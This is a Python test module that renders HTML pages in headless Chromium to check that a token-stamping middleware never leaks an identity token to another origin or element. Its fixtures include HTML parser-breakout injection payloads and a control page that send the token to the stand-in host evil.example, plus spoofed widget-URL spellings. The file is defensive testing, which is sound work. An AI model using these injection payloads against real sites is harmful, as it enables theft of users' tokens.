"""Leak-shaped pages, rewritten by ``rewrite_html``, loaded in headless Chromium.

Every request the page makes is intercepted (``page.route("**/*")``): the page itself is
served from memory at ``https://site.example/``, ``https://reqio.app/widget.js`` gets a
stand-in script that records the token on its own element, and every other request is
aborted and recorded. Nothing reaches a network. After the load event:

- no request URL carries the token;
- every DOM node carrying the token (any attribute of any element, SVG and MathML included,
  template contents, text and comment nodes) is an ``HTMLScriptElement`` in the XHTML
  namespace whose resolved ``src`` has origin ``https://reqio.app`` and path ``/widget.js``,
  and the token is its ``data-identity-token``.

The ordinary pages of ``shapes.STAMPED`` are the positive control: their widget runs with
the token. One browser for the module; each page has its own context and a bounded wait.
"""

from __future__ import annotations

import json
import urllib.parse
from dataclasses import dataclass, field
from typing import Any

import pytest
from conftest import IN_CI
from field import generators, shapes
from field.oracle import TOKEN
from hypothesis import HealthCheck, Phase, given, settings

from reqio_middleware import rewrite_html

try:
    import playwright.sync_api  # noqa: F401
except ImportError:  # a test dependency: missing is a skip locally, a failure under CI
    if IN_CI:
        raise
    pytest.skip("playwright is not installed", allow_module_level=True)

PAGE_URL = "https://site.example/dir/page.html"
LOAD_TIMEOUT_MS = 10_000

#: Records the token its own element carries; nothing else.
WIDGET_JS = """\
(window.__widgetTokens = window.__widgetTokens || []).push(
  document.currentScript && document.currentScript.getAttribute("data-identity-token"));
"""

#: Every node that carries the token and is not the widget's own script element.
FIND_MISPLACED = """\
(token) => {
  const XHTML = "http://www.w3.org/1999/xhtml";
  const bad = [];
  const isWidget = (el) => {
    if (!(el instanceof HTMLScriptElement) || el.namespaceURI !== XHTML) return false;
    try {
      // Resolved against the page, as el.src does; a template's contents live in an inert
      // document without the page's base URL, and a clone of them would load from the page.
      const url = new URL(el.getAttribute("src"), document.baseURI);
      return url.origin === "https://reqio.app" && url.pathname === "/widget.js";
    } catch (e) { return false; }
  };
  const visit = (root) => {
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_ALL);
    for (let node = walker.currentNode; node; node = walker.nextNode()) {
      if (node.nodeType === Node.ELEMENT_NODE) {
        for (const attr of node.attributes) {
          if (!attr.value.includes(token) && !attr.name.includes(token)) continue;
          if (attr.name === "data-identity-token" && attr.value === token && isWidget(node)) {
            continue;
          }
          bad.push(`${attr.name} on <${node.localName}> (${node.namespaceURI})`);
        }
        if (node.content instanceof DocumentFragment) visit(node.content);
      } else if (node.nodeValue && node.nodeValue.includes(token)) {
        bad.push(`${node.nodeName} under <${node.parentNode && node.parentNode.nodeName}>`);
      }
    }
  };
  visit(document);
  return bad;
}
"""


@dataclass
class Visit:
    """What one page load did."""

    requests: list[str] = field(default_factory=list)
    aborted: list[str] = field(default_factory=list)
    misplaced: list[str] = field(default_factory=list)
    widget_tokens: list[str | None] = field(default_factory=list)

    def leaks(self) -> list[str]:
        found = [f"request {url}" for url in self.requests if TOKEN in url]
        return found + [f"DOM: {where}" for where in self.misplaced]


def _is_widget_url(url: str) -> bool:
    parts = urllib.parse.urlsplit(url)
    return parts.scheme == "https" and parts.netloc == "reqio.app" and parts.path == "/widget.js"


def load(browser: Any, html: bytes) -> Visit:
    """Serve ``html`` at :data:`PAGE_URL` with every request intercepted; what happened."""
    visit = Visit()

    def handle(route: Any) -> None:
        url = route.request.url
        visit.requests.append(url)
        if url == PAGE_URL:
            route.fulfill(status=200, content_type="text/html; charset=utf-8", body=html)
        elif _is_widget_url(url):
            route.fulfill(status=200, content_type="text/javascript", body=WIDGET_JS)
        else:
            visit.aborted.append(url)
            route.abort()

    context = browser.new_context(java_script_enabled=True)
    try:
        page = context.new_page()
        page.route("**/*", handle)
        page.goto(PAGE_URL, wait_until="load", timeout=LOAD_TIMEOUT_MS)
        visit.misplaced = page.evaluate(FIND_MISPLACED, TOKEN)
        visit.widget_tokens = page.evaluate("() => window.__widgetTokens || []")
    finally:
        context.close()
    return visit


def rewritten(doc: str) -> bytes:
    out: bytes = rewrite_html(doc.encode("utf-8"), TOKEN)
    return out


#: Shapes only a browser can judge: html5lib 1.1 predates these parts of the standard.
BROWSER_ONLY: dict[str, str] = {
    "svg-end-p-breaks-out": (
        "<svg></p><style><img src='https://evil.example/i.gif?</style>"
        "<script src=https://reqio.app/widget.js></script>'></svg>"
    ),
    "svg-end-br-breaks-out": (
        "<svg></br><title><img src='https://evil.example/i.gif?</title>"
        "<script src=https://reqio.app/widget.js></script>'></svg>"
    ),
    "select-svg-title": (
        "<select><svg><title><img src='https://evil.example/i.gif?</title>"
        "<script src=https://reqio.app/widget.js></script>'></svg></select>"
    ),
    "select-math-style": (
        "<select><option><math><style><img src='https://evil.example/i.gif?</style>"
        "<script src=https://reqio.app/widget.js></script>'></math></select>"
    ),
    **{
        f"spelling-{k}": f'<svg><path d="M0 0"/></svg><script src="{src}"></script>'
        for k, src in enumerate(
            [
                "https://reqio%2eapp/widget.js",
                "https://reqio.app:0443/widget.js",
                "https://reqio.app:/widget.js",
                "https://reqio.app/./widget.js",
                "https://reqio.app/x/../widget.js",
                "https:///reqio.app/widget.js",
                "https:\\\\reqio.app\\widget.js",
                " https://reqio.app/widget.js\t",
                "https://reqio.app/widget%2ejs",
                "https://REQIO.APP./widget.js",
            ]
        )
    },
}


HOSTILE = {**shapes.LEAKS, **shapes.BREAKOUTS, **BROWSER_ONLY}


@pytest.mark.parametrize("doc", list(HOSTILE.values()), ids=list(HOSTILE))
def test_no_token_reaches_another_origin_or_element(browser: Any, doc: str) -> None:
    visit = load(browser, rewritten(doc))
    assert visit.leaks() == [], f"{doc!r}: {json.dumps(visit.leaks())}"


@pytest.mark.parametrize("doc", list(shapes.STAMPED.values()), ids=list(shapes.STAMPED))
def test_ordinary_pages_hand_the_widget_its_token(browser: Any, doc: str) -> None:
    visit = load(browser, rewritten(doc))
    assert visit.leaks() == []
    assert visit.widget_tokens == [TOKEN]


def test_the_interception_sees_a_leak_when_there_is_one(browser: Any) -> None:
    # The checks above must be able to fail: a page that puts the token in an image URL and
    # on an SVG script is caught on both counts.
    page = (
        f'<img src="https://evil.example/i.gif?t={TOKEN}">'
        '<svg><script href="https://evil.example/x.js" '
        f'data-identity-token="{TOKEN}"></script></svg>'
    )
    visit = load(browser, page.encode())
    assert any(leak.startswith("request https://evil.example/i.gif") for leak in visit.leaks())
    assert any("svg" in leak for leak in visit.misplaced)
    assert "https://evil.example/x.js" in visit.aborted


@settings(
    max_examples=30,
    derandomize=True,
    phases=[Phase.explicit, Phase.generate],  # no shrinking in a browser: bounded
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(doc=generators.documents())
def test_generated_documents_in_the_browser(browser: Any, doc: str) -> None:
    visit = load(browser, rewritten(doc))
    assert visit.leaks() == [], f"{doc!r}: {json.dumps(visit.leaks())}"


@settings(
    max_examples=30,
    derandomize=True,
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(doc=generators.documents(generators.PLAIN_SPELLINGS))
def test_generated_documents_with_plain_widget_urls_in_the_browser(browser: Any, doc: str) -> None:
    # The tokenizer's share, judged by the browser itself where html5lib 1.1 is out of date.
    visit = load(browser, rewritten(doc))
    assert visit.leaks() == [], f"{doc!r}: {json.dumps(visit.leaks())}"
